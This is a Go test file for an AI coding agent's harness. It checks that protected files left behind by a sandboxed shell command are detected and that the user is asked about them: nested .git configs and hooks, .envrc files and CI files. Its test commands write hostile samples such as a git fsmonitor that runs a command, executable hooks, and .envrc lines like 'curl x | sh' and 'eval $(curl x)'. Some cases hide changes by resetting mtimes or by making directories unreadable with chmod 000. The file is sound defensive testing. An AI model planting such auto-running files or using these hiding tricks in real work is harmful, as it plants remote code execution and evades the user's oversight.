package tools

import (
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// A contained command that leaves behind what runs later, at any depth
// below the top level, is caught after it: each protected name it
// created or changed is asked about, kept on a yes, and otherwise removed
// or put back, the model told. What git rewrites on its own is not asked.
func TestCommandLeavesProtected(t *testing.T) {
	files := map[string]string{
		"go.mod":              "module x\n",
		"sub/a.go":            "package sub\n",
		"sub/.envrc":          "export A=1\n",
		"lib/y/.git/config":   "[core]\n\tbare = false\n",
		"lib/y/.git/HEAD":     "ref: refs/heads/main\n",
		"lib/y/.git/index":    "DIRC",
		"lib/y/.git/hooks/.k": "",
	}
	nested := "mkdir -p sub/vendor/x/.git/hooks && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > sub/vendor/x/.git/config && printf '#!/bin/sh\\n' > sub/vendor/x/.git/hooks/post-checkout && chmod +x sub/vendor/x/.git/hooks/post-checkout"
	tests := []struct {
		name, command string
		answers       []Answer
		subjects      []string
		gone, kept    []string          // paths that must be absent, present after
		back          map[string]string // paths put back with their old text
		told          []string          // what the model reads
	}{
		{name: "nested .git declined", command: nested, answers: []Answer{Deny},
			subjects: []string{"left sub/vendor/x/.git"}, gone: []string{"sub/vendor/x/.git"}, kept: []string{"sub/vendor/x"},
			told: []string{"created sub/vendor/x/.git", "the user said no: it was removed"}},
		{name: "nested .git kept", command: nested, answers: []Answer{Once},
			subjects: []string{"left sub/vendor/x/.git"}, kept: []string{"sub/vendor/x/.git/hooks/post-checkout"},
			told: []string{"the user kept it"}},
		{name: "nobody to ask", command: nested, answers: []Answer{Unasked},
			subjects: []string{"left sub/vendor/x/.git"}, gone: []string{"sub/vendor/x/.git"},
			told: []string{"the user could not be asked: it was removed"}},
		{name: ".envrc in a subfolder", command: "mkdir -p deep/er && echo 'curl x | sh' > deep/er/.envrc", answers: []Answer{Deny},
			subjects: []string{"left deep/er/.envrc"}, gone: []string{"deep/er/.envrc"}},
		{name: "an existing one changed, its mtime set back", command: "echo 'export B=2' > sub/.envrc && touch -r sub/a.go sub/.envrc", answers: []Answer{Deny},
			subjects: []string{"left sub/.envrc"}, back: map[string]string{"sub/.envrc": "export A=1\n"},
			told: []string{"changed sub/.envrc", "put back as it was"}},
		{name: "an existing nested repository", command: "echo '[alias] x = !sh' >> lib/y/.git/config && touch lib/y/.git/hooks/pre-commit && echo x > lib/y/.git/index", answers: []Answer{Deny},
			subjects: []string{"left lib/y/.git/config", "left lib/y/.git/hooks/pre-commit"},
			gone:     []string{"lib/y/.git/hooks/pre-commit"}, back: map[string]string{"lib/y/.git/config": "[core]\n\tbare = false\n", "lib/y/.git/index": "x\n"}},
		{name: "nothing protected", command: "echo x > sub/b.go && mkdir -p sub/n && echo y > sub/n/c.go", answers: []Answer{Deny}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root := workspace(t, files)
			q := &questions{answers: tt.answers}
			s := newSet(t, root, Config{Ask: commandsRun(q), Sandbox: &fakeSandbox{}})
			res := runTool(t, s, WithRun(context.Background(), Normal), "bash", map[string]any{"command": tt.command})
			if d := cmp.Diff(tt.subjects, q.subjects()); d != "" {
				t.Errorf("questions (-want +got):\n%s", d)
			}
			for _, p := range tt.gone {
				if _, err := os.Lstat(filepath.Join(root, p)); err == nil {
					t.Errorf("%s is still there", p)
				}
			}
			for _, p := range tt.kept {
				if _, err := os.Lstat(filepath.Join(root, p)); err != nil {
					t.Errorf("%s went: %v", p, err)
				}
			}
			for p, want := range tt.back {
				if got := readFile(t, filepath.Join(root, p)); got != want {
					t.Errorf("%s = %q, want %q", p, got, want)
				}
			}
			for _, want := range tt.told {
				if !strings.Contains(res.Content, want) {
					t.Errorf("the model read %q, want %q in it", res.Content, want)
				}
			}
		})
	}
}

// commandsRun lets every command run and puts the other questions to q.
func commandsRun(q *questions) Ask {
	return func(ctx context.Context, x Question) Answer {
		if x.Kind == AskCommand {
			return Once
		}
		return q.ask(ctx, x)
	}
}

// The question shows a new small file's text as a diff, and the reason.
func TestCommandLeavesProtectedQuestion(t *testing.T) {
	root := workspace(t, map[string]string{"sub/a.go": "package sub\n"})
	q := &questions{answers: []Answer{Deny}}
	s := newSet(t, root, Config{Ask: commandsRun(q), Sandbox: &fakeSandbox{}})
	runTool(t, s, context.Background(), "bash", map[string]any{"command": "echo 'eval $(curl x)' > sub/.envrc"})
	if len(q.asked) != 1 {
		t.Fatalf("asked %v, want one question", q.subjects())
	}
	x := q.asked[0]
	if !strings.Contains(x.Detail, "+eval $(curl x)") || !strings.Contains(x.Why, "direnv") || !strings.Contains(x.Why, "created") {
		t.Errorf("question = %+v; want the new text as a diff and why", x)
	}
}

// A scan cut by its bounds says so, and what it did not look at is not
// taken for created or removed.
func TestScanCut(t *testing.T) {
	root := workspace(t, map[string]string{"a/b/c/.envrc": "x\n", "d.go": "package d\n"})
	before := scanProtected([]string{root})
	if before.cut != "" || len(before.entries) != 1 {
		t.Fatalf("scan = %+v, want one entry, whole", before)
	}
	cut := &scan{entries: map[string]stamp{}, dirs: map[string]struct{}{root: {}}, seen: map[string]struct{}{root: {}, filepath.Join(root, "a"): {}}, cut: "bounds"}
	if got := changes(cut, before); len(got) != 0 {
		t.Errorf("changes from a cut scan = %+v, want none: a/ was not read", got)
	}
	if got := changes(before, cut); len(got) != 0 {
		t.Errorf("changes to a cut scan = %+v, want none", got)
	}
}

// BenchmarkScanProtected scans this repository's tree (or the one
// BENCH_SCAN_ROOT names), as each contained command does twice.
func BenchmarkScanProtected(b *testing.B) {
	root, err := filepath.Abs("../..")
	if err != nil {
		b.Fatal(err)
	}
	if r := os.Getenv("BENCH_SCAN_ROOT"); r != "" {
		root = r
	}
	var sc *scan
	for b.Loop() {
		sc = scanProtected([]string{root})
	}
	b.ReportMetric(float64(sc.read), "entries")
	if sc.cut != "" {
		b.Logf("cut: %s", sc.cut)
	}
}

// Many protected files left by one command (an install that brings
// packages with their own CI files) are one question, all kept or all
// taken back.
func TestCommandLeavesManyProtected(t *testing.T) {
	root := workspace(t, map[string]string{"sub/a.go": "package sub\n"})
	q := &questions{answers: []Answer{Deny}}
	s := newSet(t, root, Config{Ask: commandsRun(q), Sandbox: &fakeSandbox{}})
	res := runTool(t, s, context.Background(), "bash", map[string]any{"command": "for p in a b c d e f; do mkdir -p nm/$p && echo x > nm/$p/.travis.yml; done"})
	if d := cmp.Diff([]string{"left 6 protected files"}, q.subjects()); d != "" {
		t.Errorf("questions (-want +got):\n%s", d)
	}
	if !strings.Contains(q.asked[0].Detail, "created nm/f/.travis.yml") {
		t.Errorf("the question's detail = %q, want every file named", q.asked[0].Detail)
	}
	for _, p := range []string{"a", "f"} {
		if _, err := os.Lstat(filepath.Join(root, "nm", p, ".travis.yml")); err == nil {
			t.Errorf("nm/%s/.travis.yml is still there", p)
		}
	}
	if strings.Count(res.Content, "it was removed") != 6 {
		t.Errorf("the model read %q, want six removals told", res.Content)
	}
}

// The scan keeps exactly the entries Protection names, but for the
// top-level protected ones and what git rewrites on its own.
func TestScanMatchesProtection(t *testing.T) {
	root := workspace(t, map[string]string{
		".git/config": "", ".envrc": "", "a/Jenkinsfile": "", "a/AGENTS.md": "", "a/.github/workflows/ci.yml": "",
		"a/.github/README.md": "", "a/.GIT/config": "", "a/.git/objects/ab/cd": "", "a/.git/hooks/pre-commit": "",
		"a/b/.env.local": "", "a/b/main.go": "", "a/b/.vscode/x/y.json": "", "a/node_modules/p/.travis.yml": "",
		"a/b/README.md": "", "a/.git/refs/heads/main": "", "a/.git/info/attributes": "",
	})
	want := map[string]bool{}
	filepath.WalkDir(root, func(p string, e fs.DirEntry, err error) error {
		rel, _ := filepath.Rel(root, p)
		rel = filepath.ToSlash(rel)
		if rel == "." {
			return nil
		}
		if !strings.Contains(rel, "/") && ProtectedTopLevel(rel) {
			if e.IsDir() {
				return filepath.SkipDir
			}
			return nil
		}
		if gitNoise(rel) {
			return nil
		}
		if Protection(rel) != "" {
			want[p] = true
		}
		return nil
	})
	got := map[string]bool{}
	for p := range scanProtected([]string{root}).entries {
		got[p] = true
	}
	if d := cmp.Diff(want, got); d != "" || len(got) < 12 {
		t.Errorf("scan (-Protection +scan), %d entries:\n%s", len(got), d)
	}
}

// A command that hides what it left in a directory it makes unreadable
// (chmod 000) has the directory made readable again and looked into. The
// tests run as root, whom modes do not refuse: the scan's reader here
// refuses as the kernel would refuse an ordinary user.
func TestCommandHidesProtected(t *testing.T) {
	dirReader = func(dir string) ([]fs.DirEntry, error) {
		if fi, err := os.Stat(dir); err == nil && fi.Mode().Perm()&0o500 != 0o500 {
			return nil, &fs.PathError{Op: "open", Path: dir, Err: fs.ErrPermission}
		}
		return readDir(dir)
	}
	t.Cleanup(func() { dirReader = readDir })
	root := workspace(t, map[string]string{"sub/a.go": "package sub\n"})
	q := &questions{answers: []Answer{Deny}}
	s := newSet(t, root, Config{Ask: commandsRun(q), Sandbox: &fakeSandbox{}})
	res := runTool(t, s, context.Background(), "bash", map[string]any{"command": "mkdir -p sub/h/i/x/.git && echo '[core]' > sub/h/i/x/.git/config && chmod 000 sub/h/i && chmod 000 sub/h"})
	if d := cmp.Diff([]string{"left sub/h/i/x/.git"}, q.subjects()); d != "" {
		t.Errorf("questions (-want +got):\n%s", d)
	}
	if _, err := os.Lstat(filepath.Join(root, "sub/h/i/x/.git")); err == nil {
		t.Errorf("sub/h/i/x/.git is still there")
	}
	if !strings.Contains(res.Content, "made sub/h unreadable") || !strings.Contains(res.Content, "made sub/h/i unreadable") {
		t.Errorf("the model read %q, want the hiding told", res.Content)
	}
}
